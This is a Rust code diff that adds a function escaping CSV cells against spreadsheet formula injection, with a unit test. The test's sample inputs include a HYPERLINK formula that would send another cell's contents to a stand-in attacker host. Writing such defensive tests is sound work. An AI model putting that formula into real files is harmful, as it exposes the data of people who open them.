@@ -110,9 +110,37 @@ pub fn fold(code: &str, case_sensitive: bool) -> String {
         .collect()
 }
 
+/// A CSV cell a spreadsheet will show as text, never run (OWASP "CSV
+/// Injection"): a cell starting with `=`, `+`, `-`, `@`, a tab or a
+/// carriage return gets a leading `'`. Every CSV codepool writes passes
+/// each cell through this.
+pub fn spreadsheet_cell(cell: &str) -> std::borrow::Cow<'_, str> {
+    match cell.chars().next() {
+        Some('=' | '+' | '-' | '@' | '\t' | '\r') => format!("'{cell}").into(),
+        _ => cell.into(),
+    }
+}
+
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    #[test]
+    fn formula_cells_are_neutered_and_others_kept() {
+        for formula in [
+            "=HYPERLINK(\"http://evil.example/?x=\"&B2,\"Click\")",
+            "@SUM(A1:A9)",
+            "+1",
+            "-2",
+            "\tx",
+            "\rx",
+        ] {
+            assert_eq!(spreadsheet_cell(formula), format!("'{formula}"));
+        }
+        for plain in ["O-1001", "", "QWER-1234", "'quoted", "a=b"] {
+            assert_eq!(spreadsheet_cell(plain), plain);
+        }
+    }
 
     #[test]
     fn invisible_and_unassigned_characters_are_found_with_their_code_point() {
